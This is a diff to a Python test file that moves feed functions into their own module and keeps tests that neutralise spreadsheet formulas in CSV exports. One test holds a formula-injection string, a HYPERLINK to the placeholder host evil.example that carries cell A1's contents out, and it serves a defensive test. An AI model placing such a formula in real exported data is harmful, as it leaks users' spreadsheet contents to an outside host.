@@ -24,6 +24,7 @@ from continuum.model import content as contents
 from continuum.model import level as levels
 from continuum.model import site as sites
 from continuum.outputs import pages
+from continuum.outputs.api import feed
 from continuum.outputs.api import files as api
 from continuum.outputs.api import shape
 from continuum.outputs.api.fill import files
@@ -56,7 +57,7 @@ def data_of(render: Renderer) -> dict[str, bytes]:
     """Return every file of the data, but for schemas, under its place on the site."""
     return {
         file.path: file.body
-        for output in (api.documents, api.matrix, api.feed)
+        for output in (api.documents, api.matrix, feed.feed)
         for file in output(render)
     }
 
@@ -504,7 +505,7 @@ def test_the_table_is_the_matrix(real, render):
 
 
 @pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝"])
-def test_a_cell_that_a_spreadsheet_would_run_is_disarmed(sign):
+def test_a_cell_that_a_spreadsheet_would_run_isdisarmed(sign):
     """A text that begins like a formula has an apostrophe before it; all else is as it was."""
     text = sign + ' 1+HYPERLINK("https://evil.example?x="&A1,"more, here")'
     data = made.sound()
@@ -518,14 +519,14 @@ def test_a_cell_that_a_spreadsheet_would_run_is_disarmed(sign):
     assert middle[head.index("sleep")] == "In a tent, or = at home"
 
 
-def test_tabs_and_line_ends_are_disarmed():
+def test_tabs_and_line_ends_aredisarmed():
     """What a spreadsheet skips before a formula does not hide one."""
-    assert [api._disarmed(start + "=1") for start in "\t\r\n"] == [
+    assert [api.disarmed(start + "=1") for start in "\t\r\n"] == [
         "'\t=1",
         "'\r=1",
         "'\n=1",
     ]
-    assert api._disarmed("9 to 19") == "9 to 19"
+    assert api.disarmed("9 to 19") == "9 to 19"
 
 
 # The feed
@@ -584,7 +585,7 @@ def test_an_entry_keeps_its_id_when_others_come():
         *old,
     ]
     before, after = (
-        list(api.entries(renderer(made.sound() | {"changes": changes}).views))
+        list(feed.entries(renderer(made.sound() | {"changes": changes}).views))
         for changes in (old, new)
     )
     assert [(entry.id, entry.text) for entry in after[2:]] == [
@@ -632,9 +633,9 @@ def test_hostile_texts_stay_texts():
 
 def test_a_title_is_cut_between_words_where_it_has_any():
     """A short change is its own title; a long one ends with a sign that there is more, in scripts without spaces too."""
-    assert api._title("Short.") == "Short."
-    assert api._title("word " * 40).endswith("word …")
-    assert len(api._title("字" * 300)) == 100
+    assert feed.titled("Short.") == "Short."
+    assert feed.titled("word " * 40).endswith("word …")
+    assert len(feed.titled("字" * 300)) == 100
 
 
 def test_the_same_content_gives_the_same_bytes(real, render):
